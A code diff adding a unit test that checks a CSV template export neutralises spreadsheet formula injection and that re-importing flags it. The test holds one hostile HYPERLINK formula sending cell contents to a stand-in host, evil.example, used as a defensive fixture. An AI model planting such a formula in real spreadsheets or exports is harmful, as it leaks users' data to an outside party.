@@ -82,6 +82,18 @@ describe('template', () => {
     expect(csv.split('\r\n')).toHaveLength(106 + 2);
   });
 
+  it('exports stored formula text guarded by an apostrophe, and reading the export back refuses it', async () => {
+    const hostile = '=HYPERLINK("https://evil.example/?d="&B2&C2,"Xem")';
+    const [first, ...rest] = sampleAssessments(catalog, 2024, 42);
+    const model = templateModel(catalog, 2024, [{ ...first!, decision_no: hostile }, ...rest]);
+    const csv = templateCsv(model);
+    expect(csv).toContain(`,"'=HYPERLINK(""https://evil.example/?d=""&B2&C2,""Xem"")",`);
+    expect(csv).not.toContain(',"=HYPERLINK');
+    const back = await readImportFile(new TextEncoder().encode(csv), catalog, { fileName: 'x.csv' });
+    expect(back.ok).toBe(false);
+    expect(back.problems.filter((p) => p.severity === 'error').map((p) => p.code)).toEqual(['formula_text']);
+  });
+
   it('names files by year', () => {
     expect(templateFileName(2024, 'xlsx')).toBe('mau-danh-gia-ntm-2024.xlsx');
     expect(templateFileName(2024, 'csv', 'export')).toBe('danh-gia-ntm-2024.csv');
